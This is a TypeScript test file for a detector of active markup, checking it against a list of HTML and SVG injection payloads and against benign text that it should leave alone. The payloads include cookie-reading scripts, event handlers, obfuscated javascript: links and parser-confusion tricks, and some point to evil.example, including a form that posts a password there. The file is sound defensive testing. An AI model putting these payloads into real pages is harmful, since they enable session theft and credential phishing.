import { describe, expect, it } from "vitest";
import { findActiveMarkup } from "./active-markup";

const padding = "Chat export, 2026-11-20.\n".repeat(60); // more than 1 KB

describe("active markup in a text file", () => {
  it.each([
    ["an SVG after an XML comment", '<!-- exported -->\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ["a script after a paragraph", "<p><script>alert(document.cookie)</script>"],
    ["HTML after a kilobyte of text", `${padding}<html><body><script>alert(1)</script></body></html>`],
    ["a script inside a comment", "notes <!-- <script>alert(1)</script> -->"],
    ["an upper-case script tag", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"],
    ["an SVG with a prefix", '<s:svg xmlns:s="urn:x"><s:rect/></s:svg>'],
    ["an SVG tag closed by a slash", "<svg/onload=alert(1)>"],
    ["an iframe", "<iframe srcdoc='<b>x</b>'></iframe>"],
    ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["a stylesheet link", '<link rel=stylesheet href="https://evil.example/x.css">'],
    ["a base element", '<base href="https://evil.example/">'],
    ["a form", '<form action="https://evil.example/steal"><input name=password></form>'],
    ["an object", '<object data="x.swf"></object>'],
    ["an embed", '<embed src="x.swf">'],
    ["a doctype", "<!DOCTYPE html>\n<p>hello</p>"],
    ["an XSLT stylesheet instruction", '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>'],
    ["an XHTML namespace", '<x:p xmlns:x="http://www.w3.org/1999/xhtml">hi</x:p>'],
    ["an event handler", "<img src=x onerror=alert(1)>"],
    ["an event handler after a slash", "<p/onmouseover=alert(1)>hover</p>"],
    ["an event handler after a quoted value", '<b title="x"onclick="alert(1)">b</b>'],
    ["an event handler after a > inside quotes", '<b title=">" onclick="alert(1)">b</b>'],
    ["a javascript: link", '<a href="javascript:alert(1)">click</a>'],
    ["a javascript: link with an entity", '<a href="&#106;avascript&colon;alert(1)">click</a>'],
    ["a javascript: link with a tab", '<a href="java&#9;script:alert(1)">click</a>'],
    ["a javascript: link with hex and leading spaces", "<a href=' &#x6A;&#x61;vascript:alert(1)'>click</a>"],
    ["a vbscript: link", "<a href=vbscript:msgbox(1)>click</a>"],
    ["a data: link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ["an image that loads", '<img src="https://tracker.example/pixel.gif">'],
    ["a style attribute", '<div style="background:url(https://tracker.example/p)">x</div>'],
    ["a tag hidden from a naive scan by a bogus comment", '<? <a title="?> <b onclick=alert(1)>x</b> ">'],
    ["a tag after a comment that contains a quote", '<!-- <a title=" --> <b onclick=alert(1)>x</b> -->'],
    ["a title element (raw text)", '<title><a title="</title><b onclick=alert(1)>">'],
  ])("refuses %s", (_, text) => {
    expect(findActiveMarkup(text)).toBeDefined();
  });

  it.each([
    ["an email quoted as text", "From: Bank <alerts@secure-bank.example.com>\nTo: <me@example.org>\n\nPay at <https://pay.example.net/?id=9&x=1>"],
    ["a chat log with nicknames in brackets", "<Alice> did you get the script?\n<Bob> yes, the javascript: link in it is fake\n<Alice> ok"],
    ["the word script and a URL", "They sent a script. Visit https://example.org/script.js to see it; a<b and b>c."],
    ["plain HTML formatting", "<p>Hello <b>you</b>, see <a href=\"https://phish.example/login\">this page</a>.</p>"],
    ["an SMS backup in XML", "<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n<smses count=\"1\"><sms address=\"+8613900001111\" body=\"Pay &lt;script&gt;\" /></smses>"],
    ["a word that begins like a tag name", "<scripture> and <svgs> and <html5> and <bodyguard>"],
    ["a lone angle bracket at the end", "price <"],
    ["an unclosed tag", "<a title=\"never closed"],
  ])("keeps %s as text", (_, text) => {
    expect(findActiveMarkup(text)).toBeUndefined();
  });

  it("scans 10 MB in well under a second, whatever the text is made of", () => {
    const tenMb = 10 * 1024 * 1024;
    const samples = [
      "<a ".repeat(tenMb / 3),
      "<a title=\"".repeat(tenMb / 10),
      "<!--".repeat(tenMb / 4),
      "<x:".repeat(tenMb / 3),
      "x".repeat(tenMb),
      `${"<a href=\"https://example.org/?a=1&b=2\">link</a> text ".repeat(tenMb / 48)}`,
    ];
    for (const text of samples) {
      // The faster of two runs, so that a busy machine does not decide the result.
      const times = [0, 1].map(() => {
        const started = performance.now();
        expect(findActiveMarkup(text)).toBeUndefined();
        return performance.now() - started;
      });
      expect(Math.min(...times)).toBeLessThan(1000);
    }
  });
});
